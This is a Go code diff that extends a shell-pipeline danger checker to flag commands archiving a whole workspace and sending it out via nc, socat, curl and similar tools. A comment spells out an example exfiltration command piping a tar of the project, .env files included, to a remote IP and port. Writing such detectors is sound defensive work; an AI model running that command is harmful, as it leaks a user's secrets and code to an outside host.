@@ -402,6 +402,17 @@ func PipelineDanger(stages []*Record) string {
 		if source != "" && sendsOff(r) {
 			return "sends " + source + " over the network (" + r.Program + ")"
 		}
+		if archivesWorkspace(r) && source == "" {
+			// tar czf - . | nc 203.0.113.5 9001: the whole project, its
+			// .env files too, to a raw socket or an upload (not ssh, a deploy).
+			source = "an archive of the whole workspace"
+			for _, later := range stages {
+				if later != nil && later != r && rawSender(later) {
+					return "sends " + source + " over the network (" + later.Program + ")"
+				}
+			}
+			source = ""
+		}
 		if environmentDumpers[r.Program] && len(r.Files) == 0 {
 			source = "the environment"
 		}
@@ -495,4 +506,43 @@ func rootGlob(p string) bool {
 	}
 	first, _, _ := strings.Cut(p[1:], "/")
 	return strings.ContainsAny(first, "*?[")
+}
+
+// archivesWorkspace reports tar, zip or git archive of a whole workspace root.
+func archivesWorkspace(r *Record) bool {
+	switch r.Program {
+	case "tar", "zip", "7z", "gtar", "bsdtar":
+	default:
+		return false
+	}
+	for _, f := range r.Files {
+		if f.Op == OpRead && has(f.Classes, ClassRoot) {
+			return true
+		}
+	}
+	return false
+}
+
+// rawSender reports a stage that sends what it reads to another host
+// over a raw socket or an upload (not ssh, which is how deploys go).
+func rawSender(r *Record) bool {
+	switch r.Program {
+	case "nc", "ncat", "netcat", "socat", "telnet":
+		if r.loopbackOnly {
+			return false
+		}
+		for _, n := range r.Network {
+			if n.Local {
+				return false
+			}
+		}
+		return true
+	case "curl", "wget":
+		for _, n := range r.Network {
+			if !n.Local && n.Sends != "" {
+				return true
+			}
+		}
+	}
+	return false
 }
